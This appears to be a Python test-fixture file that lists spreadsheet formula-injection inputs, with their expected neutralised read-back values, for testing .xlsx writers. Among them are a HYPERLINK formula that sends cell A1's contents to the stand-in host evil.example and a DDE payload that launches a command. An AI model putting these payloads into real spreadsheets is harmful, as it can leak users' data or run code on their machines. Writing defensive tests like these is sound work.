"""Texts a spreadsheet could run as formulas, shared by the tests of every .xlsx writer.

Each pair is what a user may type (or import) and what the cell must hold when read back: text,
with Excel's quote prefix. Control characters XML cannot hold are dropped *before* the guard
looks, so "\\x01=…" is guarded like "=…"; leading spaces and invisible format characters are
looked past; the full-width signs a Chinese input method types count as the ASCII ones.
"""

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'

FORMULA_LIKE = [
    (HYPERLINK, HYPERLINK),
    ("\x01" + HYPERLINK, HYPERLINK),
    ("\x02+1+2", "+1+2"),
    ("\x1f-2+3", "-2+3"),
    ("\x08@SUM(1)", "@SUM(1)"),
    ("\x0b\x0c=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ("\x01\t=1+1", "\t=1+1"),
    ("\t=1+1", "\t=1+1"),
    ("\r=1+1", "\n=1+1"),
    ("\r\n@A1", "\n@A1"),
    (" =1+1", " =1+1"),
    ("\u3000=1+1", "\u3000=1+1"),  # ideographic space
    ("\u200b=1+1", "\u200b=1+1"),  # zero-width space
    ("\ufeff-1", "\ufeff-1"),  # byte order mark
    ("\u202e=1+1", "\u202e=1+1"),  # right-to-left override
    ("＝1＋1", "＝1＋1"),  # full-width, as a Chinese input method types it
    ("＋86 023 1234", "＋86 023 1234"),
    ("－1", "－1"),
    ("＠SUM(1)", "＠SUM(1)"),
]

# NUL cannot be stored in PostgreSQL, so only the tests of the writers themselves use it.
NUL_FIRST = [("\x00+1+2", "+1+2"), ("\x00\x00=1+1", "=1+1")]

# Ordinary texts: kept as they are, without a quote prefix.
PLAIN = ["锂电池材料 a=b", "A-1 项目", "1+1", "甲\x07乙", "  某某集团"]
